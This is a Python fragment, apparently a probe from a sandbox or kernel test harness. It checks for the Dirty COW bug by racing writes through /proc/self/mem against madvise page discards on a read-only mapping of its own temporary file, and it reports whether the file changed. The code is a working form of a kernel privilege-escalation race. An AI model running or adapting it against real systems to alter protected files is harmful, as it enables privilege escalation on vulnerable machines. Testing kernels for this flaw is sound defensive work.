# Write to a private read-only mapping through /proc/self/mem while it is thrown away again, 2000 rounds. The file is the
# box's own, opened for reading only: a kernel that has the bug shows it, and nobody is harmed. The control does the same to a file
# in memory by a mapping that is shared and writable: so it succeeds on every kernel, and the change is seen.
import threading
path = "/proc/self/fd/%d" % os.memfd_create("own") if CONTROL else "/tmp/read-only-" + NONCE
with open(path, "wb") as file: file.write(b"a" * 4096)
fd = os.open(path, os.O_RDWR if CONTROL else os.O_RDONLY)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
address = libc.mmap(None, 4096, *((3, 1) if CONTROL else (1, 2)), fd, 0)
try: memory = os.open("/proc/self/mem", os.O_RDWR)
except OSError as error: held("/proc/self/mem: " + refused(error))
def throw_away():
    for _ in range(2000): libc.madvise(address, 4096, 4)
thread = threading.Thread(target=throw_away); thread.start()
for _ in range(2000):
    try: os.pwrite(memory, b"b", address)
    except OSError: break
thread.join()
if open(path, "rb").read() != b"a" * 4096: escaped("a file that was opened for reading changed")
held("the file is as it was after 2000 rounds")
